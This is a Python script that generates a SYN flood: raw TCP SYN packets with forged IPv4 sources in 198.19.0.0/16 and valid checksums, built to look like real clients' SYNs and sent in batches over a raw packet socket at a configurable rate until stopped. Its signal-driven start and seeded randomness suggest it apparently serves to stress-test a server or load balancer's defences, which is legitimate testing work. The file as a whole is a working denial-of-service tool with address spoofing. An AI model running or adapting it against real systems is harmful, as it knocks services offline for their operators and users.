# SPDX-License-Identifier: Apache-2.0
"""Sends SYNs from forged IPv4 addresses until SIGTERM.

    synflood.py INTERFACE DESTINATION_MAC VIP PORT PACKETS_PER_SECOND SEED

Each has the options of Linux's SYNs and a correct checksum, so a server cannot distinguish it from a client's until its SYN-ACK
gets no answer. The sources are in 198.19.0.0/16. The program prints `ready` and starts at SIGUSR1. At SIGTERM, it prints the
number of packets.
"""

import ctypes
import os
import random
import signal
import socket
import struct
import sys
import time

SOURCES = int.from_bytes(socket.inet_aton("198.19.0.0"), "big")
FRAMES = 20_000
"""Number of different SYNs, which repeat."""
AT_ONCE = 50
"""Packets of one system call, between two readings of the clock. It divides FRAMES."""
OPTIONS = bytes.fromhex("020405b4" + "0402080a" + "00000007" + "00000000" + "01030307")


def checksum(data: bytes) -> int:
    return 0xFFFF - int.from_bytes(data, "big") % 0xFFFF


def syn(mac: bytes, vip: bytes, port: int, rng: random.Random) -> bytes:
    source = (SOURCES + rng.randrange(1, 1 << 16)).to_bytes(4, "big")
    length = 20 + len(OPTIONS)
    tcp = struct.pack(">HHIIBBHHH", rng.randrange(1024, 1 << 16), port, rng.getrandbits(32), 0, length // 4 << 4, 2, 64240, 0, 0)
    tcp += OPTIONS
    total = checksum(source + vip + struct.pack(">HH", 6, length) + tcp)
    tcp = tcp[:16] + struct.pack(">H", total) + tcp[18:]
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, 0, 0x4000, 64, 6, 0) + source + vip
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    return mac + bytes.fromhex("0200000001020800") + head + tcp


class Vector(ctypes.Structure):
    """`struct iovec`."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class Header(ctypes.Structure):
    """`struct msghdr`."""

    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint),
        ("vector", ctypes.c_void_p),
        ("vectors", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    )


class Message(ctypes.Structure):
    """`struct mmsghdr`."""

    _fields_ = (("header", Header), ("sent", ctypes.c_uint))


class Batches:
    """Sends frames AT_ONCE at a time by `sendmmsg`, again from the first one after the last one."""

    def __init__(self, interface: str, frames: list[bytes]) -> None:
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._socket.bind((interface, 0))
        # The messages point into these arrays, which therefore live as long as the messages.
        self._frames = [ctypes.create_string_buffer(frame, len(frame)) for frame in frames]
        self._vectors = (Vector * len(frames))(*(Vector(ctypes.addressof(frame), len(frame)) for frame in self._frames))
        place, size = ctypes.addressof(self._vectors), ctypes.sizeof(Vector)
        messages = [Message(Header(vector=place + i * size, vectors=1)) for i in range(len(frames))]
        self._batches = [(Message * AT_ONCE)(*messages[i : i + AT_ONCE]) for i in range(0, len(frames), AT_ONCE)]
        self._library = ctypes.CDLL(None, use_errno=True)
        self._next = 0

    def send(self) -> int:
        """Send one batch, and return the number of frames that the kernel took."""
        batch = self._batches[self._next]
        self._next = (self._next + 1) % len(self._batches)
        sent: int = self._library.sendmmsg(self._socket.fileno(), batch, AT_ONCE, 0)
        if sent < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return sent


def main(interface: str, mac: str, vip: str, port: str, rate: str, seed: str) -> None:
    rng = random.Random(seed)
    to, at = bytes.fromhex(mac.replace(":", "")), socket.inet_aton(vip)
    batches = Batches(interface, [syn(to, at, int(port), rng) for _ in range(FRAMES)])
    sent = 0

    def stop(*_: object) -> None:
        print(sent, flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
    print("ready", flush=True)
    signal.sigwait({signal.SIGUSR1})
    begun = time.monotonic()
    while True:
        # A pause of the machine is not made up for.
        late = time.monotonic() - begun - sent / int(rate)
        if late > 1:
            begun += late
        if late < 0:
            time.sleep(-late)
        sent += batches.send()


if __name__ == "__main__":
    main(*sys.argv[1:])
